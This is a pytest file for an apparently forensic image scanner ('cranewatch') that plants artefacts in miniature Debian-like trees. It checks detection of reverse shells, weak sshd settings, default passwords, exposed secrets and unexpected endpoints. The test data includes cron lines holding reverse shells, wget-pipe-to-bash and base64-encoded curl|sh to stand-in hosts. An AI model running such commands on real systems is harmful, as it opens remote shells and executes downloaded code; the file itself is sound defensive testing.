@@ -1,0 +1,195 @@
+"""Each forensic check on small trees: what it must report, and what it must leave alone.
+
+Trees are the demo image's miniature Debian-like system (``demo_image.build_tree``: a dpkg
+database whose md5sums match) plus the files under test; no root needed.
+"""
+
+from __future__ import annotations
+
+import os
+from pathlib import Path
+
+import pytest
+
+from cranewatch.errors import InputError
+from cranewatch.forensics import ScanResult, endpoint_policy, scan_image
+from cranewatch.forensics.artefacts import fake_ed25519_key, plant, sha512_crypt
+from cranewatch.forensics.demo_image import build_tree, bundled_demo_image
+from cranewatch.model import Severity
+
+OSV = Path(__file__).parent / "data" / "forensics" / "osv"
+
+
+@pytest.fixture
+def tree(tmp_path: Path) -> Path:
+    root = tmp_path / "root"
+    root.mkdir()
+    build_tree(root)
+    return root
+
+
+def _write(root: Path, path: str, text: str | bytes, mode: int = 0o644) -> None:
+    dest = root / path
+    dest.parent.mkdir(parents=True, exist_ok=True)
+    dest.write_bytes(text.encode() if isinstance(text, str) else text)
+    os.chmod(dest, mode)
+
+
+def _found(result: ScanResult) -> set[tuple[str, str, str]]:
+    return {(f.rule, f.category, f.evidence[0].path or "") for f in result.findings}
+
+
+def test_clean_miniature_system_has_no_finding(tree: Path) -> None:
+    result = scan_image(tree, workers=1)
+    assert result.findings == ()
+    assert {p.name for p in result.inventory.packages} == {"base-files", "coreutils", "debianutils", "login", "cms-hmi"}
+    assert result.inventory.setuid == ("usr/bin/su",)
+
+
+def test_bundled_demo_image_holds_every_planted_artefact(tmp_path: Path) -> None:
+    scratch = tmp_path / "scratch"
+    scratch.mkdir()
+    build_tree(scratch)
+    expected = plant(scratch)  # the same list demo_image used; paths do not depend on the host
+    result = scan_image(bundled_demo_image(), vulndb=OSV, workers=1)
+    for artefact in expected:
+        assert any(
+            f.evidence[0].path == artefact.path and f.category == artefact.category
+            and (not artefact.token or artefact.token in f.title)
+            for f in result.findings
+        ), artefact
+    assert {f.evidence[0].path for f in result.findings} <= {a.path for a in expected}
+
+
+def test_sshd_settings_first_value_wins_and_comments_do_not_count(tree: Path) -> None:
+    _write(tree, "etc/ssh/sshd_config", "#PermitRootLogin yes\nPermitRootLogin prohibit-password\nPermitRootLogin yes\n"
+           "PasswordAuthentication no\nMatch User backup\n  PermitEmptyPasswords yes\n")
+    assert [f for f in scan_image(tree, workers=1).findings if f.category == "weak-config"] == []
+    _write(tree, "etc/ssh/sshd_config.d/vendor.conf", "PermitEmptyPasswords yes\nGatewayPorts yes\n")
+    found = _found(scan_image(tree, workers=1))
+    assert ("config.sshd-permitemptypasswords", "weak-config", "etc/ssh/sshd_config.d/vendor.conf") in found
+    assert ("config.sshd-gatewayports", "weak-config", "etc/ssh/sshd_config.d/vendor.conf") in found
+
+
+def test_text_markers_inside_programs_are_not_text_findings(tree: Path) -> None:
+    # bash and ssh carry these strings; they must not be reported as a reverse shell or a key.
+    program = (tree / "usr/bin/true").read_bytes() + b"\x00/dev/tcp/%s/%s\x00bash -i >& /dev/tcp/1.1.1.1/53\x00-----BEGIN RSA PRIVATE KEY-----\x00"
+    _write(tree, "usr/bin/true", program, 0o755)
+    rules = {f.rule for f in scan_image(tree, workers=1).findings}
+    assert "yara.reverse_shell_oneliner" not in rules
+    assert "credential.private-key" not in rules
+    assert "integrity.package-file-changed" in rules  # but the changed package file is
+
+
+def test_ordinary_cron_job_and_unit_are_quiet(tree: Path) -> None:
+    _write(tree, "etc/cron.d/logrotate", "0 3 * * * root test -x /usr/sbin/logrotate && /usr/sbin/logrotate /etc/logrotate.conf\n")
+    _write(tree, "etc/systemd/system/cms-hmi.service", "[Service]\nExecStart=/opt/cms/bin/cms-hmi --plc 10.20.7.10\nRestart=always\n")
+    result = scan_image(tree, workers=1)
+    assert {f.severity for f in result.findings} <= {Severity.INFO, Severity.MEDIUM}
+    assert {f.rule for f in result.findings} <= {"integrity.unowned", "endpoint.crane-lan"}
+
+
+@pytest.mark.parametrize(
+    ("line", "rule"),
+    [
+        ("*/5 * * * * root nc -e /bin/sh 192.0.2.10 9001", "persistence.reverse-shell"),
+        ("@reboot root python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"192.0.2.10\",9001));pty.spawn(\"sh\")'", "persistence.reverse-shell"),
+        ("@reboot root wget -qO- http://192.0.2.10/x | bash", "persistence.download-exec"),
+        ("@reboot root echo Y3VybCBodHRwOi8vMTkyLjAuMi4xMC94IHwgc2ggLQ== | base64 -d | sh", "persistence.encoded-exec"),
+        ("@hourly root /usr/bin/socat TCP:192.0.2.10:443 TCP:127.0.0.1:22", "persistence.network-tool"),
+    ],
+)
+def test_persistence_flags_shell_spawning_commands(tree: Path, line: str, rule: str) -> None:
+    _write(tree, "etc/cron.d/job", line + "\n")
+    assert rule in {f.rule for f in scan_image(tree, workers=1).findings if f.evidence[0].path == "etc/cron.d/job"}
+
+
+def test_accounts_empty_default_and_shared_keys(tree: Path) -> None:
+    with open(tree / "etc/passwd", "a") as fh:
+        fh.write("kiosk:x:1001:1001::/home/kiosk:/bin/sh\nhmi:x:1002:1002::/home/hmi:/bin/sh\n")
+    with open(tree / "etc/shadow", "a") as fh:
+        fh.write(f"kiosk::19700:0:99999:7:::\nhmi:{sha512_crypt('hmi', 'a1b2c3d4')}:19700:0:99999:7:::\n")
+    key = fake_ed25519_key("vendor@factory")
+    _write(tree, "home/cms/.ssh/authorized_keys", key + "\n")
+    _write(tree, "root/.ssh/authorized_keys", "# vendor\n" + key + "\n")
+    result = scan_image(tree, workers=1)
+    found = _found(result)
+    assert ("account.empty-password", "credential", "etc/shadow") in found
+    default = [f for f in result.findings if f.rule == "account.default-password"]
+    assert [f.evidence[0].values["user"] for f in default] == ["hmi"]  # root's strong password is not "found"
+    keys = [f for f in result.findings if f.rule == "account.authorized-key"]
+    assert {f.evidence[0].path for f in keys} == {"home/cms/.ssh/authorized_keys", "root/.ssh/authorized_keys"}
+    assert len({f.evidence[0].values["fingerprint"] for f in keys}) == 1  # one vendor key, two accounts
+
+
+def test_secrets_in_configs_are_masked_in_the_evidence(tree: Path) -> None:
+    _write(tree, "opt/cms/etc/upload.conf", "[upload]\nuser = cms\npassword = Sup3rS3cretValue\n")
+    finding = next(f for f in scan_image(tree, workers=1).findings if f.rule == "credential.password-assignment")
+    assert finding.evidence[0].line == 3
+    assert "Sup3rS3cretValue" not in (finding.evidence[0].excerpt or "")
+
+
+def test_allowed_endpoints_are_not_reported(tree: Path) -> None:
+    _write(tree, "opt/cms/etc/cms.conf", "diag_server = 198.51.100.23\nmirror_url = https://updates.crane-vendor.invalid/feed\n")
+    assert {f.evidence[0].values["host"] for f in scan_image(tree, workers=1).findings} == {"198.51.100.23", "updates.crane-vendor.invalid"}
+    policy, _ = endpoint_policy(allow=["198.51.100.0/24", "updates.crane-vendor.invalid"])
+    assert scan_image(tree, workers=1, policy=policy).findings == ()
+
+
+def test_profile_outside_endpoint_allows_and_names_the_crane(tree: Path, tmp_path: Path) -> None:
+    profile = Path(__file__).resolve().parents[1] / "profiles" / "sts-07.toml"
+    text = profile.read_text() + '\n[[outside]]\nname = "vendor-diagnostics"\naddress = "198.51.100.23/32"\nport = 8443\nprotocol = "https"\nclients = ["cms"]\n'
+    custom = tmp_path / "sts-07.toml"
+    custom.write_text(text)
+    _write(tree, "opt/cms/etc/cms.conf", "diag_server = 198.51.100.23\nother = 203.0.113.9\n")
+    policy, crane = endpoint_policy(profile=custom)
+    result = scan_image(tree, workers=1, policy=policy, crane=crane)
+    assert crane == "STS-07"
+    assert [(f.crane, f.evidence[0].values["host"]) for f in result.findings] == [("STS-07", "203.0.113.9")]
+
+
+def test_vpn_to_an_outside_peer(tree: Path) -> None:
+    _write(tree, "etc/wireguard/wg0.conf", "[Interface]\nAddress = 10.99.0.2/32\n\n[Peer]\nEndpoint = 203.0.113.50:51820\nAllowedIPs = 0.0.0.0/0\n")
+    _write(tree, "etc/openvpn/client/site.conf", "client\nremote 10.20.0.20 1194\n")
+    found = _found(scan_image(tree, workers=1))
+    assert ("remote-access.vpn-outside", "remote-access-tool", "etc/wireguard/wg0.conf") in found
+    assert not any(path == "etc/openvpn/client/site.conf" and category == "remote-access-tool" for _, category, path in found)
+
+
+def test_unowned_kernel_module_and_tmp_executable(tree: Path) -> None:
+    _write(tree, "usr/lib/modules/6.1.0-18-amd64/extra/cmsmon.ko", b"\x7fELF" + b"\x01" * 100)
+    _write(tree, "var/tmp/.cmsd", b"\x7fELF" + b"\x02" * 100, 0o755)
+    found = _found(scan_image(tree, workers=1))
+    assert ("integrity.unowned", "backdoor", "usr/lib/modules/6.1.0-18-amd64/extra/cmsmon.ko") in found
+    assert ("integrity.tmp-executable", "backdoor", "var/tmp/.cmsd") in found
+
+
+def test_changed_conffile_is_info_and_its_settings_are_still_checked(tree: Path) -> None:
+    with open(tree / "etc/cms/hmi.conf", "a") as fh:
+        fh.write("upstream = 203.0.113.200\n")
+    result = scan_image(tree, workers=1)
+    assert ("integrity.conffile-changed", "weak-config", "etc/cms/hmi.conf") in _found(result)
+    assert any(f.rule == "endpoint.public" and f.evidence[0].line == 4 for f in result.findings)
+
+
+def test_user_rules_directory(tree: Path, tmp_path: Path) -> None:
+    rules = tmp_path / "rules"
+    rules.mkdir()
+    (rules / "port.yar").write_text(
+        'rule port_secret_marker { meta: scope = "text" category = "credential" severity = "high" '
+        'description = "port marker" strings: $a = "PORT-SECRET-MARKER" condition: $a }\n'
+    )
+    _write(tree, "opt/cms/notes.txt", "hello\nPORT-SECRET-MARKER\n")
+    finding = next(f for f in scan_image(tree, workers=1, rules=rules).findings if f.rule == "yara.port_secret_marker")
+    assert (finding.category, finding.severity, finding.evidence[0].line) == ("credential", Severity.HIGH, 2)
+    (rules / "broken.yar").write_text("rule broken { condition: nonsense }\n")
+    with pytest.raises(InputError, match="broken.yar"):
+        scan_image(tree, workers=1, rules=rules)
+
+
+def test_language_packages_are_inventoried(tree: Path) -> None:
+    _write(tree, "opt/cms/lib/python3/site-packages/requests-2.31.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: requests\nVersion: 2.31.0\n")
+    _write(tree, "opt/cms/web/node_modules/express/package.json", '{"name": "express", "version": "4.18.2"}')
+    _write(tree, "opt/cms/web/node_modules/@scope/ui/package.json", '{"name": "@scope/ui", "version": "1.0.0"}')
+    packages = {(p.manager, p.name, p.version) for p in scan_image(tree, workers=1).inventory.packages}
+    assert {("python", "requests", "2.31.0"), ("npm", "express", "4.18.2"), ("npm", "@scope/ui", "1.0.0")} <= packages
